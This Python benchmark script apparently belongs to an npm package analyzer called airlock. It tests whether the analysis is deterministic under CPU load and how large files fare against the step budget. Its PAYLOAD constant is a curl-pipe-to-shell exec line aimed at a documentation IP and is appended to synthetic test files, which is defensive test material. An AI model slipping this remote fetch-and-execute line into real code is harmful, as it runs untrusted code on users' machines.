"""Is analysis a pure function of the bytes? Analyse big real packages twice — the second time with every
core busy — and compare the canonical JSON byte for byte; report the steps each package's largest file
used against the step budget, and whether any file was cut.

    python bench/determinism.py /tmp/big-tarballs --fetch        # download the default 20 (verified), then run
    python bench/determinism.py /tmp/big-tarballs                # every *.tgz already in the directory

Opt-in, not part of the test suite: it needs the network for `--fetch` and minutes of CPU. The tarballs are
benign real packages; nothing in them is executed.
"""

from __future__ import annotations

import argparse
import json
import multiprocessing
import os
import sys
import time
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from dataclasses import dataclass
from functools import partial
from pathlib import Path

from airlock.analysis import ANALYZER_VERSION, Budget, analyze_traced
from airlock.analysis.capabilities import DEFAULT_BUDGET
from airlock.contents import read_tarball
from airlock.errors import AirlockError
from airlock.model import PackageAnalysis, PackageContents, PackageFile
from airlock.serialize import analysis_to_json
from airlock.verdict import decide

# The biggest JavaScript packages on npm we could name: single huge bundles (typescript, monaco, pdf.js,
# plotly, babel-standalone) and wide trees of many files (next, aws-sdk, firebase, tfjs).
DEFAULT_PACKAGES = (
    "typescript@^5",
    "monaco-editor",
    "pdfjs-dist",
    "next",
    "@babel/standalone",
    "three",
    "echarts",
    "plotly.js-dist-min",
    "lodash",
    "rxjs",
    "@angular/core",
    "react-dom",
    "firebase",
    "ace-builds",
    "highcharts",
    "@tensorflow/tfjs",
    "mermaid",
    "mathjax",
    "aws-sdk",
    "core-js",
)


def canonical(analysis: PackageAnalysis) -> bytes:
    """The store's encoding of an analysis as compact JSON: equal analyses give equal bytes."""
    return json.dumps(analysis_to_json(analysis), separators=(",", ":"), ensure_ascii=False).encode()


def _spin(until: float) -> None:
    while time.monotonic() < until:
        pass


@contextmanager
def cpu_load(processes: int, *, seconds: float) -> Iterator[None]:
    """Busy processes competing for the CPU; each stops by itself after `seconds` and is terminated on exit."""
    context = multiprocessing.get_context("fork")
    until = time.monotonic() + seconds
    workers = [context.Process(target=_spin, args=(until,), daemon=True) for _ in range(processes)]
    try:
        for worker in workers:
            worker.start()
        yield
    finally:
        for worker in workers:
            worker.terminate()
        for worker in workers:
            worker.join()


@dataclass(frozen=True, slots=True)
class Run:
    package: str
    files: int
    code_mb: float
    max_steps: int
    max_steps_file: str
    total_steps: int
    seconds: float
    loaded_seconds: float
    cuts: tuple[str, ...]
    """Budget cuts (steps, nesting, byte cap): code never analysed."""
    regions: int
    """Regions the parser did not understand (read lexically; not cuts)."""
    identical: bool | None
    verdict: str
    exec_seen: bool
    """None when not repeated (`--single`)."""


PAYLOAD = "\nrequire('child_process').exec('curl http://203.0.113.7/x | sh');\n"
_MANIFEST = PackageFile("package.json", b'{"name": "synthetic", "version": "1.0.0"}')


def _fill(line: str, size: int) -> str:
    return line * (size // len(line) + 1)


def synthetic() -> dict[str, PackageContents]:
    """12 MB files with the payload at the very end: plain code (the exec must be seen) and code where every
    line is a seed (the budget cuts it: the package must go to review, never allow)."""
    plain = "".join(
        f"function f{i}(a, b) {{ var x{i} = a * {i} + b.length; return x{i} > 3 ? [x{i}] : null; }}\n"
        for i in range(12 * 2**20 // 80)
    )
    dense = _fill("const m = require('fs'); m.statSync(process.env.P);\n", 12 * 2**20)
    return {
        name: PackageContents((_MANIFEST, PackageFile("index.js", (code + PAYLOAD).encode())))
        for name, code in (("synthetic-12mb-plain+exec", plain), ("synthetic-12mb-seeds+exec", dense))
    }


def measure_contents(
    package: str, contents: PackageContents, budget: Budget, load: int, *, repeat: bool
) -> Run:
    started = time.perf_counter()
    first, files = analyze_traced(contents, budget=budget)
    seconds = time.perf_counter() - started
    second, loaded_seconds = first, 0.0
    if repeat:
        with cpu_load(load, seconds=max(60.0, seconds * 4)):
            started = time.perf_counter()
            second, _ = analyze_traced(contents, budget=budget)
            loaded_seconds = time.perf_counter() - started
    biggest = max(files, key=lambda f: f.steps, default=None)
    analysed = {f.path for f in files}
    code_bytes = sum(len(f.data) for f in contents.files if f.path in analysed)
    return Run(
        package=package,
        files=len(files),
        code_mb=code_bytes / 2**20,
        max_steps=biggest.steps if biggest else 0,
        max_steps_file=biggest.path if biggest else "-",
        total_steps=sum(f.steps for f in files),
        seconds=seconds,
        loaded_seconds=loaded_seconds,
        cuts=tuple(f"{s.file}: {s.reason}" for f in files for s in f.cuts),
        regions=len(first.skipped) - sum(len(f.cuts) for f in files),
        identical=canonical(first) == canonical(second) if repeat else None,
        verdict=decide(first.findings).value,
        exec_seen="child_process.exec" in first.capabilities.builtin,
    )


def _read(path: Path) -> PackageContents:
    return read_tarball(path.read_bytes(), subject=path.name)


def _given(contents: PackageContents) -> PackageContents:
    return contents


def _identity(run: Run) -> str:
    return "-" if run.identical is None else "yes" if run.identical else "NO"


def fetch(directory: Path, names: tuple[str, ...]) -> None:
    from airlock.registry.cache import Cache, default_cache_dir
    from airlock.registry.client import RegistryClient
    from airlock.registry.npmrc import load_npm_config
    from airlock.targets import RegistryTarget

    config = load_npm_config(Path.cwd(), env=os.environ, home=Path.home())
    with RegistryClient(config, Cache(default_cache_dir())) as client:
        for raw in names:
            at = raw.find("@", 1)
            name, selector = (raw[:at], raw[at + 1 :]) if at > 0 else (raw, "")
            try:
                manifest = client.resolve(RegistryTarget(raw, name, selector))
                out = directory / f"{name.replace('/', '__')}-{manifest.version}.tgz"
                if not out.exists():
                    out.write_bytes(client.fetch_tarball(manifest))
                print(f"ok   {name}@{manifest.version}", file=sys.stderr)
            except AirlockError as error:
                print(f"FAIL {raw}: {error.message}", file=sys.stderr)


def main() -> int:
    parser = argparse.ArgumentParser(
        description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter
    )
    parser.add_argument("directory", type=Path)
    parser.add_argument("--fetch", action="store_true", help="download the default packages first")
    parser.add_argument(
        "--load", type=int, default=os.cpu_count() or 2, help="busy processes (default: cores)"
    )
    parser.add_argument("--max-steps", type=int, default=DEFAULT_BUDGET.max_steps)
    parser.add_argument("--only", nargs="*", default=[], help="tarballs whose name starts with one of these")
    parser.add_argument(
        "--single", action="store_true", help="one run per package (sizing only, no comparison)"
    )
    parser.add_argument(
        "--synthetic", action="store_true", help="only the generated 12 MB files with a payload at the end"
    )
    args = parser.parse_args()
    args.directory.mkdir(parents=True, exist_ok=True)
    if args.fetch:
        fetch(args.directory, DEFAULT_PACKAGES)
    budget = Budget(max_file_bytes=DEFAULT_BUDGET.max_file_bytes, max_steps=args.max_steps)
    print(
        f"analyzer {ANALYZER_VERSION}; step budget {budget.max_steps:,} per file; load {args.load} busy processes"
    )
    header = f"{'package':<34}{'files':>6}{'code MB':>9}{'max steps':>11}{'% budget':>9}{'total steps':>13}"
    print(header + f"{'s':>7}{'s loaded':>9}  cut  regions  identical  largest file")
    runs: list[Run] = []
    paths = [] if args.synthetic else sorted(args.directory.glob("*.tgz"))
    if args.only:
        paths = [p for p in paths if p.name.startswith(tuple(args.only))]
    jobs: list[tuple[str, Callable[[], PackageContents]]] = [
        (p.name.removesuffix(".tgz"), partial(_read, p)) for p in paths
    ]
    if args.synthetic:
        jobs = [(name, partial(_given, contents)) for name, contents in synthetic().items()]
    for package, contents in jobs:
        run = measure_contents(package, contents(), budget, args.load, repeat=not args.single)
        runs.append(run)
        print(
            f"{run.package:<34}{run.files:>6}{run.code_mb:>9.1f}{run.max_steps:>11,}"
            f"{100 * run.max_steps / budget.max_steps:>8.1f}%{run.total_steps:>13,}{run.seconds:>7.1f}"
            f"{run.loaded_seconds:>9.1f}  {'CUT' if run.cuts else 'no ':<4} {run.regions:>7}  {_identity(run):<10} "
            f"{run.max_steps_file}",
            flush=True,
        )
        for cut in run.cuts[:5]:
            print(f"    cut: {cut}")
        if run.package.startswith("synthetic"):
            print(f"    verdict {run.verdict}; payload exec seen: {run.exec_seen}")
    different = [r.package for r in runs if r.identical is False]
    with_cuts = [r.package for r in runs if r.cuts]
    peak = max(runs, key=lambda r: r.max_steps, default=None)
    print(
        f"{len(runs)} packages: {len(runs) - len(different)} byte-identical under load, {len(with_cuts)} with cuts"
    )
    if peak is not None:
        print(f"largest per-file steps: {peak.max_steps:,} ({peak.package}: {peak.max_steps_file})")
    return 1 if different else 0


if __name__ == "__main__":
    raise SystemExit(main())
